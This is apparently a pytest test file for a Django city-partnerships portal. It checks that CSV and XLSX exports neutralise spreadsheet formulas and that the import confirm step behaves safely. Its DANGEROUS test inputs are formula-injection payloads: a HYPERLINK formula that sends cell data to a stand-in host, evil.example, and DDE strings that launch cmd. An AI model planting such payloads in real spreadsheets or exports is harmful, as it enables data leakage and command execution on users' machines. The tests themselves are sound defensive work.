"""Issue 11, spreadsheets: exported formulas stay text, a failed confirm says so, a key twice in one file is
flagged in the preview, and the file waiting for confirmation is where every app server sees it."""

import csv
import io
import tempfile

import openpyxl
import pytest
from django.core.files.storage import storages
from django.urls import reverse

from cities.models import City, Partnership
from cities.tests.factories import CityFactory
from harbin_portal.tests.imports import confirm, job_of, upload

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def export(client, fmt, **filters):
    return client.post(
        reverse("admin:cities_city_export"),
        {"format": fmt, "resource": "0", **{f"cityresource_{f}": "on" for f in ("slug", "name_en", "longitude")}},
    )


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_a_csv_export_never_holds_a_live_formula(admin_client_, prefix):
    CityFactory(slug="bad", name_en=DANGEROUS[prefix], longitude="-113.493800")

    [row] = csv_rows(export(admin_client_, "0"))

    assert row["name_en"] == "'" + DANGEROUS[prefix]
    assert row["longitude"] == "-113.493800"  # a plain number is not a formula and stays a number


def test_an_escaped_csv_export_imports_back_unchanged(admin_client_):
    CityFactory(slug="bad", name_en=DANGEROUS["="], status="published")
    exported = export(admin_client_, "0").content

    preview = upload(admin_client_, "cities_city", exported)

    assert job_of(preview).summary["totals"]["skip"] == 1


def test_an_xlsx_export_stores_a_formula_as_text(admin_client_):
    CityFactory(slug="bad", name_en=DANGEROUS["="])

    book = openpyxl.load_workbook(io.BytesIO(export(admin_client_, "1").content))
    header = [cell.value for cell in book.active[1]]
    cell = book.active.cell(row=2, column=header.index("name_en") + 1)

    assert cell.data_type == "s"
    assert cell.value == DANGEROUS["="]


PARTNERSHIPS_CSV = "city,kind,state,established_on,established_precision,status\n{}"
ROW = "{},sister,active,1985-01-01,year,published\n"


def preview(client, text):
    return upload(client, "cities_partnership", text)


def test_a_confirm_step_that_fails_reports_the_failure_not_success(admin_client_):
    CityFactory(slug="edmonton")
    doomed = CityFactory(slug="rovaniemi")
    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton") + ROW.format("rovaniemi")))
    doomed.delete()  # someone deletes a city between the preview and the confirmation

    response = confirm(admin_client_, shown)

    page = response.content.decode()
    assert Partnership.objects.count() == 0
    assert "Import finished" not in page
    assert "Nothing was imported" in page and "rovaniemi" in page


def test_a_key_twice_in_one_file_is_flagged_in_the_preview_and_cannot_be_confirmed(admin_client_):
    CityFactory(slug="edmonton")
    text = PARTNERSHIPS_CSV.format(ROW.format("edmonton") + ROW.format("edmonton").replace("sister", "friendship"))

    shown = preview(admin_client_, text)

    assert "Confirm import" not in shown.content.decode()
    problems = dict(job_of(shown).summary["problems"])
    assert sorted(problems) == [2, 3]
    assert "“edmonton” appears in rows 2 and 3" in " ".join(problems[3])
    assert "“edmonton” appears in rows 2 and 3" in shown.content.decode()
    assert (
        admin_client_.post(reverse("admin:cities_partnership_import_confirm", args=[job_of(shown).pk])).status_code
        == 302
    )
    assert Partnership.objects.count() == 0


def test_the_file_waiting_for_confirmation_is_in_shared_storage_not_this_servers_tmp(
    admin_client_, tmp_path, monkeypatch
):
    CityFactory(slug="edmonton")
    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton")))
    assert storages["import_export"].exists(f"django-import-export/{job_of(shown).file_name}")

    # The confirmation reaches another app server: its own /tmp has never seen the file.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "other-server-tmp"))
    (tmp_path / "other-server-tmp").mkdir()
    confirm(admin_client_, shown)

    assert Partnership.objects.get().city.slug == "edmonton"


def test_the_waiting_file_is_kept_in_the_private_storage():
    from django.conf import settings

    assert settings.IMPORT_EXPORT_TMP_STORAGE_CLASS == "import_export.tmp_storages.MediaStorage"
    assert settings.STORAGES["import_export"] == settings.STORAGES["private"]
    assert storages["import_export"].base_url is None  # never under MEDIA_URL


def test_a_lost_waiting_file_is_a_message_not_a_server_error(admin_client_):
    CityFactory(slug="edmonton")
    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton")))
    storages["import_export"].delete(f"django-import-export/{job_of(shown).file_name}")

    response = confirm(admin_client_, shown)

    assert response.status_code == 200
    assert "no longer there; upload it again" in response.content.decode()
    assert City.objects.count() == 1 and Partnership.objects.count() == 0


def test_the_old_confirm_form_with_a_file_name_is_refused(admin_client_):
    response = admin_client_.post(
        reverse("admin:cities_partnership_process_import"), {"import_file_name": "0" * 32, "format": "0"}
    )
    assert response.status_code == 400


def test_the_open_datasets_never_hold_a_live_formula_either():
    from cities.tests.factories import PartnershipFactory
    from opendata.datasets import DATASETS, export

    PartnershipFactory(city=CityFactory(slug="bad", name_en=DANGEROUS["="], status="published"))
    slug = next(slug for slug in DATASETS if "partner" in slug)

    rows = list(csv.reader(io.StringIO(export(slug, "csv").decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(export(slug, "xlsx")))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value == DANGEROUS["="]]

    assert "'" + DANGEROUS["="] in rows[1]
    assert [cell.data_type for cell in cells] == ["s"]
